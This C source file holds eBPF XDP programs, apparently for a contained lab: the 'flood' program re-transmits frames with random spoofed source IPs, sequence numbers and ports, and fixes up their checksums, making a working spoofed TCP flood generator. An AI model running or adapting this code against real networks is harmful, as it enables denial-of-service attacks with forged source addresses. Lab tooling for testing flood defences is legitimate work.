/* A flood: the frame that it is given, again and again, with other numbers each time.
 *
 * Run by BPF_PROG_TEST_RUN on live frames; what is sent once is changed on when it comes again.
 */
#include "common/bpf/include/tcp.h"

char LICENSE[] SEC("license") = "Dual MIT/GPL";

/* Written by lab/floods.py. Sources are of `net`, and vary in `mask`. */
volatile __u32 net;
volatile __u32 mask;
volatile __u32 is_unfinished; /* checksums are of the pseudo-header alone */

volatile __u32 is_aside; /* what is sent goes no further than the other end of the attacker's wire */

/* At that end: an interface sends frames if its peer has a program. */
SEC("xdp")
int pass(struct xdp_md *ctx)
{
	return is_aside ? XDP_DROP : XDP_PASS;
}

SEC("xdp")
int flood(struct xdp_md *ctx)
{
	void *data = (void *)(long)ctx->data, *data_end = (void *)(long)ctx->data_end;
	struct ethhdr *eth = data;
	struct iphdr *ip = (void *)(eth + 1);
	__be32 saddr = bpf_htonl(net | (bpf_get_prandom_u32() & mask));
	__u32 seq = bpf_get_prandom_u32(), ack = bpf_get_prandom_u32();
	__be16 sport = bpf_get_prandom_u32() | bpf_htons(0x8000);
	struct tcphdr *tcp;
	__u64 changes;

	if ((void *)(ip + 1) > data_end)
		return XDP_ABORTED;
	changes = changed(0, ip->saddr, saddr);
	ip->check = patched(ip->check, changes);
	ip->saddr = saddr;
	if (ip->protocol != IPPROTO_TCP)
		return XDP_TX;
	tcp = (void *)ip + ip->ihl * 4;
	if ((void *)(tcp + 1) > data_end)
		return XDP_ABORTED;
	if (tcp->syn)
		ack = 0;
	changes = changed(changes, tcp->seq, seq);
	changes = changed(changes, tcp->ack_seq, ack);
	changes = changed(changes, tcp->source, sport);
	tcp->check = patched(tcp->check, changes);
	tcp->seq = seq;
	tcp->ack_seq = ack;
	tcp->source = sport;
	if (is_unfinished)
		tcp->check = folded(pseudo_sum(ip->saddr, ip->daddr,
					       bpf_ntohs(ip->tot_len) - ip->ihl * 4));
	return XDP_TX;
}
